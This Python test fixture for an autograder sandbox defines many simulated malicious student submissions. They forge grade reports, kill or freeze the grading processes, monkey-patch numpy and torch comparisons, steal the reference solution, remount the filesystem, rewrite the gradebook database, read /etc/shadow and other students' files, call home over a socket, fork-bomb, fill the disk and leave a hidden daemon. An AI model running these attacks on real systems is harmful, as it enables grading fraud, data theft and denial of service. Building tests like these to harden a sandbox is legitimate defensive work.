"""The attackers: one course member each, whose conv_output_size.py attacks the supervisor.

Each source is a whole exercise module, written as a member who wants an unearned score, or
wants to read, write or outlive what is not theirs, would write it. The tests in this folder
grade all of them in one autograde run per isolation mode and look at what they achieved.
`$name` placeholders are filled in by the test (paths and values only the supervisor's machine
knows, which a member of the lab could easily guess: the course folder, the supervisor's home).

A member whose code reports something back does it the only way left to it: in an exception's
text, which ends up in the check's message in the gradebook. The tests look for it there.
"""

from __future__ import annotations

from dataclasses import dataclass
from string import Template

# The correct body, so that an attack that also answers correctly has nothing else to gain.
ANSWER = """
def conv_output_size(size, kernel, padding=0, stride=1):
    return (size - kernel + 2 * padding) // stride + 1
"""

# The processes above this one that grade (the fork server and `grader grade`), found the way
# an attacker would: by walking up the parents and reading their command lines. Never the
# supervisor's own `autograde`, whose death would only stop the recording the attacker wants.
GRADERS = """
import os
def graders():
    found, pid = [], os.getpid()
    for _ in range(6):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(") ", 1)[1].split()[1])
            command = open(f"/proc/{pid}/cmdline", "rb").read()
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1 or b"grader\\0autograde" in command:  # `python -m grader autograde`
            break
        if b"grader" in command or b"forkserver" in command or b"multiprocessing" in command:
            found.append(pid)
    return found
"""

# Reports a text through the checks' messages: the exception's text is stored in the gradebook.
REPORT = """
def conv_output_size(size, kernel, padding=0, stride=1):
    raise RuntimeError("REPORT<<" + FOUND + ">>")
"""


@dataclass(frozen=True)
class Member:
    attack_class: int  # the class (1 unearned scores ... 7 daemons)
    what: str
    source: str
    # True where only the sandbox contains it: unsandboxed it would act on the test machine
    # itself (its files, its network, its processes), so it runs under bubblewrap only. The
    # others are held by protections that do not depend on the sandbox.
    needs_sandbox: bool = False

    def text(self, values: dict[str, str]) -> str:
        return Template(self.source).substitute(values)


MEMBERS: dict[str, Member] = {}


def member(name: str, attack_class: int, what: str, source: str, needs_sandbox=False) -> None:
    MEMBERS[name] = Member(attack_class, what, source, needs_sandbox)


# --- 1. unearned scores -------------------------------------------------------------------------

member(
    "forger",
    1,
    "writes a report of its own wherever a report could be, then kills the grader",
    GRADERS
    + """
import json, os, signal, glob
forged = {"exercises": [{"id": "conv_output_size", "status": "passed", "score": 1000.0,
          "max_score": 1, "checks": [], "notes": [], "sha256": "x"}]}
line = json.dumps({"event": "result", "result": forged["exercises"][0]}) + "\\n"
# Only the grading processes above it: nothing else on the machine is this attack's business
# (unsandboxed, writing every process's descriptors would damage the test machine).
for pid in graders():
    try:
        args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
    except OSError:
        continue
    for flag, value in zip(args, args[1:]):
        if flag in (b"--json", b"--kit-results"):
            try:
                open(value.decode(), "w").write(json.dumps(forged))
            except OSError:
                pass
    for fd in glob.glob(f"/proc/{pid}/fd/*"):
        try:
            target = os.readlink(fd)
        except OSError:
            continue
        if target.startswith(("pipe:", "socket:")) or target.endswith((".json", ".jsonl")):
            try:
                os.write(os.open(fd, os.O_WRONLY | os.O_NONBLOCK), line.encode())
            except OSError:
                pass
for candidate in ("../report.json", "../../report.json", "report.json"):
    try:
        open(candidate, "w").write(json.dumps(forged))
    except OSError:
        pass
for pid in graders():
    os.kill(pid, signal.SIGKILL)
"""
    + ANSWER,
    # As root and unsandboxed, its code may open the grading job's pipes (root may ptrace).
    needs_sandbox=True,
)

member(
    "appender",
    1,
    "appends 'passed' records for checks it made up, then exits at once",
    """
import gc, json, os
from multiprocessing.connection import Connection
records = [{"event": "check", "check": name, "status": "passed", "message": "", "doc": "",
            "device": None, "where": None, "fault": "learner", "when": "call"}
           for name in ("conv_output_size_matches_reference", "bonus_points", "extra_credit")]
records.append({"event": "finished", "exitstatus": 0})
for path in ("results.jsonl", "../results.jsonl"):
    try:
        with open(path, "a") as f:
            f.writelines(json.dumps(r) + "\\n" for r in records)
    except OSError:
        pass
for obj in gc.get_objects():
    if isinstance(obj, Connection):
        for r in records:
            try:
                obj.send_bytes(json.dumps(r).encode())
            except Exception:
                pass
os._exit(0)
"""
    + ANSWER,
)

member(
    "imposter",
    1,
    "sends records for the exercise's own checks from its import, then crashes",
    """
import gc, json, os, signal
from multiprocessing.connection import Connection
names = ("conv_output_size_follows_the_manual_rules", "conv_output_size_matches_reference",
         "conv_output_size_returns_an_int")
for obj in gc.get_objects():
    if isinstance(obj, Connection):
        for name in names:
            try:
                obj.send_bytes(json.dumps({"event": "check", "check": name, "status": "passed",
                    "message": "", "doc": "", "device": None, "where": None,
                    "fault": "learner", "when": "call"}).encode())
            except Exception:
                pass
os.kill(os.getpid(), signal.SIGSEGV)
"""
    + ANSWER,
)

member(
    "killer",
    1,
    "kills the grading processes above it: `grader grade` and its fork server",
    GRADERS
    + """
import signal
for pid in graders():
    os.kill(pid, signal.SIGKILL)
"""
    + ANSWER,
)

member(
    "massacre",
    1,
    "kills every process it can see",
    """
import os, signal
os.kill(-1, signal.SIGKILL)
"""
    + ANSWER,
    needs_sandbox=True,
)

member(
    "stopper",
    1,
    "stops the grading processes above it, so the grader hangs for ever",
    GRADERS
    + """
import signal
for pid in graders():
    os.kill(pid, signal.SIGSTOP)
"""
    + ANSWER,
)

member(
    "twin_a",
    1,
    "submits the same grader-killing file as twin_b: no verdict may be shared",
    GRADERS
    + """
import signal
for pid in reversed(graders()):  # `grader grade` first, then its fork server
    os.kill(pid, signal.SIGKILL)
"""
    + ANSWER,
)
member("twin_b", 1, "the same file as twin_a", MEMBERS["twin_a"].source)

member(
    "patcher",
    1,
    "patches the comparisons numpy and torch really call, under their names",
    """
import numpy as np, torch
import numpy._core.numeric as numeric
numeric.isclose = lambda a, b, *args, **kw: np.ones(np.broadcast(a, b).shape, dtype=bool)
numeric.allclose = lambda *args, **kw: True
try:
    import torch.testing._comparison as comparison
    comparison.assert_equal = lambda *args, **kw: None
except Exception:
    pass
def conv_output_size(size, kernel, padding=0, stride=1):
    return 0
""",
)

member(
    "peeker",
    1,
    "loads the kit's reference solution from its file and returns its answer",
    """
import importlib.util, pathlib, sys
found = None
for root in map(pathlib.Path, sys.path):
    candidate = root / "reference" / "ch1_theory" / "conv_output_size.py"
    if candidate.is_file():
        found = candidate
        break
spec = importlib.util.spec_from_file_location("answers", found)
answers = importlib.util.module_from_spec(spec)
spec.loader.exec_module(answers)
conv_output_size = answers.conv_output_size
""",
)

member(
    "borrower",
    1,
    "takes the reference module the checks already imported, from sys.modules",
    """
import sys
def conv_output_size(size, kernel, padding=0, stride=1):
    for name, module in list(sys.modules.items()):
        if "reference" in name and name.endswith("conv_output_size"):
            return module.conv_output_size(size, kernel, padding, stride)
    return -1
""",
)

# --- 2, 3. writing outside: remount, setuid, the course folder, the gradebook ---------------

member(
    "remounter",
    2,
    "remounts / read-write (root's capabilities in the sandbox) and plants files",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 32, 4096
libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None)
for target in ("/", "$course", "$course/submitted", "$kit", "$home"):
    libc.mount(None, target.encode(), None, MS_REMOUNT | MS_BIND, None)
    try:
        open(os.path.join(target, "$marker"), "w").write("planted")
    except OSError:
        pass
try:
    import sqlite3
    db = sqlite3.connect("$course/gradebook.db")
    db.execute("UPDATE kit_result SET score = 100")
    db.execute("UPDATE grade SET auto_score = 100")
    db.commit()
except Exception:
    pass
status = open("/proc/self/status").read()
FOUND = "uid=%d euid=%d " % (os.getuid(), os.geteuid()) + " ".join(
    line.replace("\\t", "") for line in status.splitlines()
    if line.startswith(("CapEff", "CapPrm", "CapBnd", "NoNewPrivs")))
"""
    + REPORT,
    needs_sandbox=True,
)

member(
    "nester",
    2,
    "makes a user namespace of its own to be root again, and remounts there",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)
libc.mount(None, b"/", None, 32 | 4096, None)
for target in ("$course", "$kit", "/tmp", "$home"):
    try:
        open(os.path.join(target, "$marker"), "w").write("planted")
    except OSError:
        pass
"""
    + ANSWER,
    needs_sandbox=True,
)

member(
    "scribbler",
    3,
    "writes a file into every folder it can find, the course and kit included",
    """
import os
for top in ("/tmp", "/var/tmp", "/dev/shm", "$course", "$kit", "$home", os.getcwd(),
            os.path.expanduser("~"), os.path.dirname(os.path.abspath(__file__))):
    for here, dirs, files in os.walk(top):
        if here.count("/") > top.count("/") + 2:
            dirs[:] = []
        try:
            open(os.path.join(here, "$marker"), "w").write("planted")
        except OSError:
            pass
"""
    + ANSWER,
    needs_sandbox=True,
)

member(
    "grader_writer",
    3,
    "opens the gradebook by its path and gives everyone full marks",
    """
import sqlite3
try:
    db = sqlite3.connect("$course/gradebook.db", timeout=30)
    db.execute("UPDATE kit_result SET score = max_score")
    db.execute("UPDATE grade SET auto_score = 100")
    db.commit()
except Exception:
    pass
"""
    + ANSWER,
    needs_sandbox=True,
)

member(
    "caller",
    3,
    "calls home over the network",
    """
import socket
for host in ("127.0.0.1", "$host_ip"):
    try:
        s = socket.create_connection((host, $port), timeout=3)
        s.sendall(b"$marker")
        s.close()
    except OSError:
        pass
"""
    + ANSWER,
    needs_sandbox=True,
)

# --- 4. reading what is not theirs ----------------------------------------------------------------

member(
    "reader",
    4,
    "reads other members' submissions, the supervisor's home, secrets, the gradebook",
    """
import glob, os
found = []
paths = (glob.glob("$course/submitted/*/*/ch1_theory/conv_output_size.py")
         + glob.glob("/**/submitted/*/*/ch1_theory/conv_output_size.py", recursive=False)
         + ["$home/secret.txt", os.path.expanduser("~/secret.txt"), "/etc/shadow",
            "$course/gradebook.db"])
for path in paths:
    try:
        found.append(open(path, "rb").read()[:4000].decode(errors="replace"))
    except OSError:
        pass
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        found.append(open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
    except OSError:
        pass
found.append(repr(dict(os.environ)))
FOUND = " | ".join(found)
"""
    + REPORT,
    needs_sandbox=True,
)

member(
    "walker",
    4,
    "walks up from its own file to find other members' folders",
    """
import os
found = []
here = os.path.dirname(os.path.abspath(__file__))
for _ in range(8):
    here = os.path.dirname(here)
    try:
        for name in os.listdir(here):
            found.append(os.path.join(here, name))
    except OSError:
        pass
for path in list(found):
    if path.endswith(".py") or "victim" in path:
        try:
            found.append(open(path).read()[:2000])
        except OSError:
            pass
FOUND = " ".join(found)
"""
    + REPORT,
    needs_sandbox=True,
)

member(
    "shouter",
    4,
    "sends a message of many megabytes through a check's message",
    """
FOUND = "A" * (8 * 2**20)
"""
    + REPORT,
)

# --- 6. resources ------------------------------------------------------------------------------------

member(
    "filler",
    6,
    "fills the disk: a file as large as it can write, in every writable folder",
    """
import os
written = {}
chunk = b"x" * 2**20
for folder in (os.getcwd(), "/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")):
    path = os.path.join(folder, "$marker.fill")
    n = 0
    try:
        with open(path, "wb") as f:
            for _ in range(6 * 1024):  # 6 GiB
                f.write(chunk)
                n += 1
    except (OSError, MemoryError):
        pass
    written[folder] = n
FOUND = repr(written)
"""
    + REPORT,
)

member(
    "talker",
    6,
    "prints hundreds of megabytes",
    """
import sys
line = "spam " * 1000 + "\\n"
for _ in range(60000):
    sys.stdout.write(line)
    sys.stderr.write(line)
"""
    + ANSWER,
)

member(
    "forker",
    6,
    "starts two thousand processes",
    """
import os, time
started = 0
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
        started += 1
    except OSError:
        break
FOUND = "started %d" % started
"""
    + REPORT,
    needs_sandbox=True,
)

member(
    "hog",
    6,
    "takes more memory than the limit, in several processes at once",
    """
import os, time
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray(700 * 2**20)
            for i in range(0, len(block), 4096):
                block[i] = 1
            time.sleep(60)
        finally:
            os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
"""
    + ANSWER,
)

# --- 7. daemons ----------------------------------------------------------------------------------------

DAEMON = """
import ctypes, os, signal, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for name in list(os.environ):
            if "TOKEN" in name or name.startswith("KIT"):
                del os.environ[name]
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        ctypes.CDLL(None).prctl(15, b"$daemon_name", 0, 0, 0)  # PR_SET_NAME
        os.execve(sys.executable, [sys.executable, "-c",
                  "import ctypes, time; ctypes.CDLL(None).prctl(15, b'$daemon_name', 0, 0, 0); time.sleep(600)"],
                  {"PATH": "/usr/bin:/bin"})
    os._exit(0)
time.sleep(0.5)
"""

member(
    "daemon",
    7,
    "leaves a daemon that left the session and dropped the kit's token",
    DAEMON + ANSWER,
)
